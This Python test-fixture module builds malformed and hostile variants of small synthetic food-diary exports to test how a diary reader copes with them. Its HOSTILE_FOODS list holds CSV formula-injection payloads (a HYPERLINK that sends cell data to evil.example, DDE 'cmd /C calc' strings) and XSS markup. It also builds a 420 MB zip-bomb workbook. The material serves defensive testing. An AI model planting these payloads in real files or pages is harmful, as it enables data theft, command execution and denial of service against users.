"""Hostile variants of small synthetic diaries, one per export layout.

Each layout (Cronometer servings as exported in 2016, 2020 and 2025, Cronometer
daily nutrition, MyFitnessPal's nutrition summary, Lose It's weekly summary, a
generic date/food/amount sheet, and the date/food/amount/unit sheet made from an
ASA24 Items file) is a few rows written here by hand.  Each variant rewrites one
of them the way a real file goes wrong: another encoding or delimiter, decimal
commas, fractions, dates in other notations, impossible amounts, hostile text,
a workbook under a .csv name, a damaged or zip-bomb workbook ...

:func:`variants` yields :class:`Variant` objects that say what a reader must do
with them: either refuse the file with a sentence matching ``error``, or return
exactly ``rows`` (their spreadsheet row numbers), each with one status, and keep
the food texts in ``foods`` as written.  ``tests/test_hostile_layouts.py`` runs
them; ``python tests/hostile_variants.py DIR`` writes them out to try by hand
(``python -m analyzer totals DIR/<file> --out daily.csv``).
"""

from __future__ import annotations

import codecs
import csv
import io
import sys
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass, field, replace
from pathlib import Path


@dataclass(frozen=True)
class Diary:
    """A small diary in one layout: header, rows of text cells, and which columns hold what."""

    layout: str
    header: tuple[str, ...]
    rows: tuple[tuple[str, ...], ...]
    date: str
    food: str | None
    amount: str | None
    numbers: tuple[str, ...] = ()  # nutrient columns (decimal point in the base rows)

    def column(self, name: str) -> int:
        return self.header.index(name)

    def with_cells(self, name: str, values: list[str]) -> Diary:
        """The diary with column ``name`` replaced by ``values`` (one per row, rows added as needed)."""
        at = self.column(name)
        base = list(self.rows)
        rows = [list(base[i % len(base)]) for i in range(len(values))]
        for row, value in zip(rows, values, strict=True):
            row[at] = value
        return replace(self, rows=tuple(tuple(row) for row in rows))


def _c(*rows: str) -> tuple[tuple[str, ...], ...]:
    return tuple(tuple(next(csv.reader([row]))) for row in rows)


LAYOUTS: dict[str, Diary] = {
    "cronometer_2016": Diary(
        "cronometer_2016",
        ("Day", "Food Name", "Amount", "Energy (kcal)", "Calcium (mg)", "Magnesium (mg)", "Vitamin D (IU)"),
        _c('2016-03-01,"Milk, Whole",1.00 cup,148.84,276.33,24.40,124.44',
           '2016-03-01,Crème fraîche,2.00 tbsp,101.40,27.30,2.10,0.00',
           '2016-03-02,"Spinach, Raw",100.00 g,23.00,99.00,79.00,0.00'),
        "Day", "Food Name", "Amount", ("Energy (kcal)", "Calcium (mg)", "Magnesium (mg)", "Vitamin D (IU)")),
    "cronometer_2020": Diary(
        "cronometer_2020",
        ("Day", "Time", "Group", "Food Name", "Amount", "Energy (kcal)", "Calcium (mg)", "Magnesium (mg)",
         "Phosphorus (mg)", "Sodium (mg)", "Vitamin D (IU)"),
        _c('2020-05-03,8:01 AM,Breakfast,"Eggs, Cooked",2.00 large,155.00,56.00,12.00,198.00,124.00,87.00',
           '2020-05-03,12:30 PM,Lunch,Jalapeño Peppers,1.00 pepper,4.00,1.50,2.10,3.60,0.10,0.00',
           '2020-05-04,7:15 PM,Dinner,"Yogurt, Plain, Whole Milk",245.00 g,149.00,296.00,29.00,233.00,113.00,5.00'),
        "Day", "Food Name", "Amount",
        ("Energy (kcal)", "Calcium (mg)", "Magnesium (mg)", "Phosphorus (mg)", "Sodium (mg)", "Vitamin D (IU)")),
    "cronometer_2025": Diary(
        "cronometer_2025",
        ("Day", "Group", "Food Name", "Amount", "Energy (kcal)", "Calcium (mg)", "Magnesium (mg)", "Category"),
        _c('2025-01-10,Breakfast,"Oats, Rolled",0.50 cup,150.00,20.00,55.00,Cereal Grains and Pasta',
           '2025-01-10,Breakfast,Café au lait,1.00 cup,70.00,150.00,18.00,Beverages',
           '2025-01-11,Supplements,Magnesium Glycinate,1.00 capsule,0.00,0.00,120.00,Supplements'),
        "Day", "Food Name", "Amount", ("Energy (kcal)", "Calcium (mg)", "Magnesium (mg)")),
    "cronometer_daily": Diary(
        "cronometer_daily",
        ("Date", "Energy (kcal)", "Calcium (mg)", "Magnesium (mg)", "Completed"),
        _c("2022-11-03,1850.40,912.20,301.50,true", "2022-11-04,2010.00,1004.90,288.00,false",
           "2022-11-05,1733.30,850.00,310.10,true"),
        "Date", None, None, ("Energy (kcal)", "Calcium (mg)", "Magnesium (mg)")),
    "mfp_summary": Diary(
        "mfp_summary",
        ("Date", "Meal", "Calories", "Sodium (mg)", "Calcium", "Iron", "Note"),
        _c("2023-03-02,Breakfast,105.0,1.2,1.7,1.3,", "2023-03-02,Lunch,710.0,2.8,15.3,1.2,Crêpe day",
           "2023-03-03,Dinner,640.5,820.0,22.0,3.1,"),
        "Date", None, None, ("Calories", "Sodium (mg)", "Calcium", "Iron")),
    "loseit": Diary(
        "loseit",
        ("Date", "Name", "Icon", "Type", "Quantity", "Units", "Calories", "Deleted", "Sodium (mg)"),
        _c("03/01/2024,Greek Yogurt,Yogurt,Breakfast,1,Container,100,false,55",
           "03/01/2024,Pâté,Meat,Lunch,2,Ounce,180,false,390",
           "03/02/2024,Banana,Banana,Snacks,1,Medium,105,false,1"),
        "Date", "Name", "Quantity", ("Calories", "Sodium (mg)")),
    "generic": Diary(
        "generic", ("date", "food", "amount"),
        _c("2024-01-01,whole milk,1 cup", "2024-01-01,Jalapeño,1 pepper", "2024-01-02,cheddar cheese,30 g"),
        "date", "food", "amount"),
    "asa24_sheet": Diary(
        "asa24_sheet", ("date", "food", "amount", "unit"),
        _c('2021-11-05,"Soft drink, NFS",297.6,g', '2021-11-05,"Egg, whole, fried",46,g',
           '2021-11-06,"Milk, whole",244,g'),
        "date", "food", "amount"),
}

#: Characters a spreadsheet would run as a formula, and text a browser would run as markup.
HOSTILE_FOODS = ('=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0",
                 "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", '<script>alert("x")</script>',
                 "<img src=x onerror=alert(1)>milk",
                 "milk</td></tr><tr><td>evil")


@dataclass(frozen=True)
class Variant:
    """One hostile file and what reading it must give.

    ``error`` is a regex the ``DiaryFormatError`` message must match (the file is
    refused); otherwise ``rows`` are the spreadsheet row numbers that must come back,
    each exactly once, and ``foods`` the food texts (by row) that must be kept as written.
    """

    name: str
    data: bytes
    rows: tuple[int, ...] = ()
    error: str | None = None
    foods: dict[int, str] = field(default_factory=dict)
    binary_rows: tuple[int, ...] = ()  # rows that must be rejected as binary
    slow: bool = False


def csv_text(diary: Diary, delimiter: str = ",", newline: str = "\r\n",
             header: tuple[str, ...] | None = None) -> str:
    """The diary as delimited text, quoted only where the csv module must."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=delimiter, lineterminator=newline)
    writer.writerow(header or diary.header)
    writer.writerows(diary.rows)
    return buffer.getvalue()


def data_rows(diary: Diary, first: int = 2) -> tuple[int, ...]:
    return tuple(range(first, first + len(diary.rows)))


def xlsx_bytes(diary: Diary, above: tuple[tuple[str, ...], ...] = (), real_dates: bool = False) -> bytes:
    """The diary as a one-sheet workbook (cells as text, numbers as numbers).

    ``above`` are rows written above the header (a title); with ``real_dates`` the date
    column holds Excel dates, with a time on odd rows.
    """
    import datetime as dt

    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.active
    for row in above:
        sheet.append(list(row))
    sheet.append(list(diary.header))
    at = diary.column(diary.date)
    for number, row in enumerate(diary.rows):
        cells = [_number_or_text(cell) for cell in row]
        if real_dates:
            day = dt.datetime.strptime(row[at][:10], "%Y-%m-%d") if "/" not in row[at] else \
                dt.datetime.strptime(row[at], "%m/%d/%Y")
            cells[at] = day + dt.timedelta(hours=7, minutes=30) * (number % 2)
        sheet.append(cells)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def _number_or_text(cell: str) -> object:
    try:
        return float(cell)
    except ValueError:
        return cell


def zip_bomb_xlsx(diary: Diary, megabytes: int = 420) -> bytes:
    """The diary's workbook with ``megabytes`` MB of spaces inside its sheet (under 1 MB packed).

    The XML stays valid, so only a size check stops a reader from parsing it all.
    """
    packed = zipfile.ZipFile(io.BytesIO(xlsx_bytes(diary)))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for member in packed.infolist():
            content = packed.read(member)
            if member.filename != "xl/worksheets/sheet1.xml":
                archive.writestr(member, content)
                continue
            head, tail = content.split(b"<sheetData>", 1)
            with archive.open(member.filename, "w", force_zip64=True) as sheet:
                sheet.write(head + b"<sheetData>")
                chunk = b" " * (1 << 20)
                for _ in range(megabytes):
                    sheet.write(chunk)
                sheet.write(tail)
    return buffer.getvalue()


# --- the variants -----------------------------------------------------------------------------------

def _decimal_commas(diary: Diary) -> Diary:
    columns = [diary.column(name) for name in diary.numbers]
    if diary.amount and diary.layout != "loseit":
        columns.append(diary.column(diary.amount))
    rows = tuple(tuple(cell.replace(".", ",") if i in columns else cell for i, cell in enumerate(row))
                 for row in diary.rows)
    return replace(diary, rows=rows)


def _amounts(diary: Diary, values: list[str]) -> Diary:
    return diary.with_cells(diary.amount, values) if diary.amount else diary


def _dates_like(diary: Diary, values: list[str]) -> Diary:
    return diary.with_cells(diary.date, values)


#: Dates written in other notations (all mean days a diary may hold, or are plainly impossible).
DATES = ["2024-03-01", "03/02/2024", "3/4/24", "2024-03-05T08:30:00", "2024-03-06 08:30:00+02:00",
         "2024-03-07T08:30:00Z", "45363", "Mar 8, 2024", "9 March 2024", "2024/03/10", "10.03.2024",
         "2099-01-01", "1900-01-01", "0", "not a date", ""]
#: Amounts no scale gives: each must end set aside with a reason, or read as a plain number.
AMOUNTS = ["NaN", "inf", "-inf", "1e308", "1e309", "-2", "0", "-", "", "  ", "½ cup", "1 1/2 cups",
           "1,5 cups", "1.5.5 g", "2 smidgens", "9999999999 kg", "0x10 g", "1_000 g", "Infinity g", "½"]


def _per_layout(diary: Diary) -> Iterator[Variant]:
    name = diary.layout
    rows = data_rows(diary)
    text = csv_text(diary)
    foods = ({r: cells[diary.column(diary.food)] for r, cells in zip(rows, diary.rows, strict=True)}
             if diary.food else {})

    def ok(kind: str, data: bytes, **kwargs) -> Variant:
        return Variant(f"{name}-{kind}", data, kwargs.pop("rows", rows), foods=kwargs.pop("foods", foods), **kwargs)

    yield ok("plain", text.encode())
    yield ok("utf8_bom", codecs.BOM_UTF8 + text.encode())
    yield ok("utf16le_bom", text.encode("utf-16"))
    yield ok("utf16be_bom", codecs.BOM_UTF16_BE + text.encode("utf-16-be"))
    yield ok("utf16le", text.encode("utf-16-le"))
    yield ok("utf16be", text.encode("utf-16-be"))
    yield ok("cp1252", text.encode("cp1252"))
    yield ok("latin1", text.encode("latin-1"))
    yield ok("lf", text.replace("\r\n", "\n").encode())
    yield ok("cr", text.replace("\r\n", "\r").encode())
    lines = text.split("\r\n")
    mixed = "".join(line + ("\r\n", "\n", "\r")[i % 3] for i, line in enumerate(lines[:-1]))
    yield ok("mixed_newlines", mixed.encode())
    yield ok("no_final_newline", text.rstrip("\r\n").encode())
    for delimiter, label in ((";", "semicolon"), ("|", "bar"), ("\t", "tab")):
        yield ok(label, csv_text(diary, delimiter).encode())
    yield ok("semicolon_decimal_comma", csv_text(_decimal_commas(diary), ";").encode("cp1252"))
    yield ok("xlsx", xlsx_bytes(diary))
    yield ok("xlsx_named_csv", xlsx_bytes(diary))  # the name never decides
    yield ok("xlsx_title_rows", xlsx_bytes(diary, above=(("My food diary",), ("",), ("exported", "2024-03-01"))),
             rows=tuple(r + 3 for r in rows), foods={r + 3: f for r, f in foods.items()})
    yield ok("xlsx_real_dates", xlsx_bytes(diary, real_dates=True))
    yield ok("header_only", csv_text(replace(diary, rows=())).encode(), rows=(), foods={})
    yield ok("blank_lines", ("\r\n\r\n" + text.replace("\r\n", "\r\n\r\n", 1)).encode(),
             rows=tuple(r + 3 for r in rows), foods={r + 3: f for r, f in foods.items()})
    yield ok("excel_sep_line", ("sep=;\r\n" + csv_text(diary, ";")).encode(), rows=tuple(r + 1 for r in rows),
             foods={r + 1: f for r, f in foods.items()})
    yield ok("title_rows", ("Food diary export\r\nUser: somebody, 2024\r\n\r\n" + text).encode(),
             rows=tuple(r + 3 for r in rows), foods={r + 3: f for r, f in foods.items()})
    yield ok("trailing_delimiters", "".join(line + ",,\r\n" for line in lines[:-1]).encode())
    yield ok("header_case_spaces", csv_text(diary, header=tuple(f" {h.upper()} " for h in diary.header)).encode())
    yield ok("extra_columns", csv_text(replace(diary, header=(*diary.header, "Notes", "Notes"),
                                               rows=tuple((*r, "x", "=1+1") for r in diary.rows))).encode())
    short = text.split("\r\n")
    short[2] = short[2].rsplit(",", 2)[0]
    yield ok("short_row", "\r\n".join(short).encode(), foods={r: f for r, f in foods.items() if r != 3})
    spoiled = text.split("\r\n")
    spoiled[2] += "\x00"  # row 3 is rejected
    yield ok("nul_bytes", ("\r\n".join(spoiled) + "\x00" * 512).encode(),
             foods={r: f for r, f in foods.items() if r != 3}, binary_rows=(3,))
    yield ok("nul_padding", text.encode() + b"\x00" * 4096)
    yield ok("garbage_appended", text.encode() + bytes(range(256)) * 4, rows=(), foods={},
             error=r"binary data .* from line 5 on")
    yield ok("dates", csv_text(_dates_like(diary, DATES)).encode(), rows=data_rows(_dates_like(diary, DATES)),
             foods={})
    if diary.food:
        hostile = diary.with_cells(diary.food, list(HOSTILE_FOODS))
        yield ok("hostile_text", csv_text(hostile).encode(), rows=data_rows(hostile),
                 foods=dict(zip(data_rows(hostile), HOSTILE_FOODS, strict=True)))
        newline = diary.with_cells(diary.food, ["Milk,\nwhole", "Tea \r\n(black)", "x" * 200_000])
        # a spreadsheet row holding line breaks is still one row: rows 2, 3, 4
        yield ok("quoted_newlines_long_field", csv_text(newline).encode(), rows=(2, 3, 4),
                 foods={2: "Milk,\nwhole", 3: "Tea \r\n(black)", 4: "x" * 200_000})
    if diary.amount:
        odd = _amounts(diary, AMOUNTS)
        yield ok("amounts", csv_text(odd).encode(), rows=data_rows(odd), foods={})
    if diary.numbers:
        odd = diary.with_cells(diary.numbers[0], ["NaN", "inf", "1e308", "-5", "", "-", "1,5", "abc", "0"])
        yield ok("nutrient_values", csv_text(odd).encode(), rows=data_rows(odd), foods={})


def zip_bomb() -> Variant:
    """The one large variant (built in about 5 s, so tests ask for it only when slow tests run)."""
    return Variant("xlsx_zip_bomb", zip_bomb_xlsx(LAYOUTS["generic"]), error=r"unpacks to 420 MB")


def variants() -> Iterator[Variant]:
    """Every hostile variant of every layout, then the files that are not diaries at all (not ``zip_bomb``)."""
    for diary in LAYOUTS.values():
        yield from _per_layout(diary)
    generic = LAYOUTS["generic"]
    yield Variant("empty", b"", error=r"empty")
    yield Variant("whitespace_only", b" \r\n\t\n  \n", error=r"empty")
    yield Variant("bom_only", codecs.BOM_UTF8, error=r"empty")
    yield Variant("utf16_bom_only", codecs.BOM_UTF16_LE, error=r"empty")
    yield Variant("binary_garbage", bytes(range(256)) * 64, error=r"binary|columns")
    yield Variant("csv_named_xlsx", csv_text(generic).encode(), data_rows(generic))
    broken = xlsx_bytes(generic)
    yield Variant("xlsx_truncated", broken[: len(broken) // 2], error=r"Excel workbook that is damaged or cut off")
    corrupt = bytearray(broken)
    middle = len(corrupt) // 2
    corrupt[middle:middle + 200] = b"\x00" * 200
    yield Variant("xlsx_corrupt", bytes(corrupt), error=r"workbook|ZIP|archive")
    yield Variant("html_page", b"\xef\xbb\xbf\n  <!DOCTYPE html><html><body><table><tr><td>date</td><td>food</td>"
                  b"</tr></table></body></html>", error=r"web page \(HTML\)")
    yield Variant("excel_2003_xml", b'<?xml version="1.0"?>\r\n<?mso-application progid="Excel.Sheet"?>\r\n'
                  b'<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"></Workbook>',
                  error=r"Excel 2003 XML spreadsheet")
    yield Variant("json_export", b'[{"date": "2024-01-01", "food": "milk", "amount": "1 cup"}]', error=r"JSON file")
    yield Variant("rtf_document", b"{\\rtf1\\ansi date,food,amount\\par}", error=r"RTF document")
    yield Variant("renamed_headers", csv_text(generic, header=("When", "What I ate", "How much")).encode(),
                  error=r"could not find the columns")
    twice = replace(generic, header=(*generic.header, "food"), rows=tuple((*row, "=cmd") for row in generic.rows))
    yield Variant("duplicated_headers", csv_text(twice).encode(), data_rows(generic),
                  foods={2: "whole milk", 3: "Jalapeño", 4: "cheddar cheese"})


def write_all(folder: Path) -> None:
    """Write every variant to ``folder`` (``.xlsx`` for workbooks except the deliberately misnamed ones)."""
    folder.mkdir(parents=True, exist_ok=True)
    for variant in (*variants(), zip_bomb()):
        suffix = ".xlsx" if variant.name.endswith(("-xlsx", "csv_named_xlsx")) else ".csv"
        (folder / f"{variant.name}{suffix}").write_bytes(variant.data)


if __name__ == "__main__":
    write_all(Path(sys.argv[1]))
